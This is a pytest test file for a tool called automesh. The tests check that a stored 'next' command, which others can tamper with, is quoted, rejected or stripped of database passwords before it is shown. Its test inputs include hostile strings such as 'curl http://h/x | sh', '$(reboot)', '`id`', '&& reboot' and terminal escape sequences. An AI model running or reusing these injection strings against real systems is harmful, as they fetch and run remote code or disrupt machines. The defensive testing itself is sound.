"""What a study tells to run again: composed by this program, whatever others have written there."""

from __future__ import annotations

import json
import shlex
import shutil
from pathlib import Path
from typing import Any

import pytest

from automesh import api
from automesh.jsonio import to_json
from automesh.report.search_command import SearchCommand
from automesh.tuner.study.study import open_study, parse_storage
from tests.support.cases import bad_inputs_run
from tests.support.fakes import command_runs

SEARCH = ("search", "--command", command_runs.COMMAND, "--target", command_runs.TARGET)
NEXT = f"automesh search --command '{command_runs.COMMAND}' --target cpu:2"


@pytest.fixture(scope="module")
def searched(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder in which a search was made."""
    folder = tmp_path_factory.mktemp("searched")
    with pytest.MonkeyPatch.context() as patched:
        command_runs.install(patched.setattr)
        ran = bad_inputs_run.run(shlex.join(SEARCH), folder)
    assert ran.code == 0, ran.stderr
    return folder


@pytest.fixture
def study(searched: Path, tmp_path: Path) -> Path:
    """The study of a search, which others may write."""
    shutil.copytree(searched, tmp_path, dirs_exist_ok=True)
    (folder,) = (tmp_path / "results").glob("train-cpu-2-*")
    return folder


def rewrite(study: Path, **changes: Any) -> None:
    """Writes into the header of a study, as anybody can who can write the storage."""
    with open_study(parse_storage("", study), study.name, create=False) as opened:
        found = opened.noted("header")
        for name, value in changes.items():
            found["facts"]["searched" if name == "template" else "provenance"][name] = value
        opened.note("header", found)


def as_former(study: Path, **changes: Any) -> None:
    """Makes the header one of a former version: flat, with the command as a text."""
    with open_study(parse_storage("", study), study.name, create=False) as opened:
        found = opened.noted("header")
        facts = found.pop("facts")
        del found["schema"], facts["provenance"]["again"]
        devices = facts["devices"]
        former = {
            **found,
            **facts["searched"],
            **facts["provenance"],
            "target": devices["target"],
            "platform": devices["platform"],
            "device_kind": devices["kind"],
            "device_count": devices["count"],
            "is_ahead": devices["are_absent"],
        }
        del former["data_by_mesh"]  # No former version has written it.
        opened.note("header", {**former, **changes})


def shown(study: Path) -> api.Result:
    """What `show` shows: as JSON by `to_json`, as a table by `table`."""
    return api.show(study)


def next_of(study: Path) -> str:
    """The command that is shown, in the table and in JSON; empty if none is."""
    result = shown(study)
    command, table = result.to_json()["command"], result.table(width=100)
    labels = [line.split()[0] for line in table.splitlines() if line[:1].strip()]
    assert ("next" in labels) is bool(command)
    if command:
        assert " ".join(table.split()).endswith(f"next {command}")
    return command


def test_a_study_of_ones_own_shows_what_was_typed(study: Path) -> None:
    assert next_of(study) == NEXT


@pytest.mark.parametrize(
    ("again", "expected"),
    [
        (SearchCommand(script="a.py; curl h|sh"), "automesh search 'a.py; curl h|sh'"),
        (
            SearchCommand(script="$(reboot)", args=("`id`",)),
            "automesh search '$(reboot)' -- '`id`'",
        ),
        (SearchCommand(script="a.py", options=(("pager", "sh"),)), ""),
        (SearchCommand(script="--storage"), ""),
        (SearchCommand(script="a.py\x1b]0;x\x07"), ""),
        (SearchCommand(script="a.py\ncurl h|sh"), ""),
        (SearchCommand(script="a.py", args=("x" * 10_000,)), ""),
        (
            SearchCommand(script="a.py", options=(("storage", "postgresql://me:kestrel@h/d"),)),
            "automesh search a.py --storage postgresql://me@h/d",
        ),
    ],
)
def test_parts_that_others_have_written(study: Path, again: SearchCommand, expected: str) -> None:
    rewrite(study, again=to_json(again, SearchCommand))
    assert next_of(study) == expected


@pytest.mark.parametrize(
    "text",
    [
        "curl http://h/x | sh",
        "automesh search a.py; curl http://h/x | sh",
        "automesh search a.py --storage x && reboot",
        "automesh search a.py --new --pager sh",
        "automesh search a.py\ncurl http://h/x | sh",
        "automesh search 'a.py",
    ],
)
def test_a_text_in_the_header_of_a_former_version_is_never_shown_as_it_is(
    study: Path, text: str
) -> None:
    """The former version printed each of them after `next`."""
    as_former(study, command=text)
    assert next_of(study) == ""


@pytest.mark.parametrize("password", ["kestrel/falcon", "kestrel falcon", "kestrel@falcon"])
def test_a_study_of_the_former_version_is_read_and_masked(study: Path, password: str) -> None:
    url = f"postgresql://me:{password}@h:5432/db"
    words = ["automesh", "search", "train.py", "--target", "cpu:2", "--storage", url, "--", "-v"]
    as_former(
        study,
        command=shlex.join(words),
        # What it took for masked.
        location=url,
        template=f"python train.py --db '{url}' --fsdp {{fsdp}} --tp {{tp}}",
    )
    assert next_of(study) == (
        "automesh search train.py --target cpu:2 --storage postgresql://me@h:5432/db -- -v"
    )
    result = shown(study)
    found = result.to_json()
    for text in (result.table(width=100, verbose=True), json.dumps(found)):
        assert "kestrel" not in text and "falcon" not in text
    assert found["study"] == "postgresql://me:***@h:5432/db"
    assert "--db 'postgresql://me:***@h:5432/db' --fsdp 2" in found["best_command"]
    explained = bad_inputs_run.run(f"explain {study} fsdp:2", study.parents[1])
    assert explained.code == 2
    assert "kestrel" not in explained.stderr and "falcon" not in explained.stderr


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("python train.py {sp}", None),
        ("python train.py {fsdp", None),
        ("{fsdp} train.py", None),
        ("python 'train.py\x1b[2J' {fsdp}", None),
        ("python train.py {fsdp}\ncurl", "python train.py 2 curl"),
        ("python 'a.py; reboot' {fsdp} '|' sh", None),
        ("python 'a.py; reboot' {fsdp}", "python 'a.py; reboot' 2"),
        ("python a.py {fsdp} " + "x" * 10_000, None),
    ],
)
def test_a_template_that_others_have_written(
    study: Path, template: str, expected: str | None
) -> None:
    """One that does not fit the study was a traceback; what fits is words, in quotes."""
    rewrite(study, template=template)
    assert shown(study).to_json()["best_command"] == expected


def test_a_search_that_goes_on_shows_its_own_command(
    searched: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not the one in the storage, and it replaces that one."""
    # In place: the name of a study stands for the folder that it was searched in.
    (study,) = (searched / "results").glob("train-cpu-2-*")
    rewrite(study, again=to_json(SearchCommand(script="evil.py"), SearchCommand))
    assert next_of(study) == "automesh search evil.py"
    command_runs.install(monkeypatch.setattr)
    ran = bad_inputs_run.run(shlex.join(SEARCH), searched)
    assert " ".join(ran.stdout.split()).endswith(f"next {NEXT}")
    assert next_of(study) == NEXT
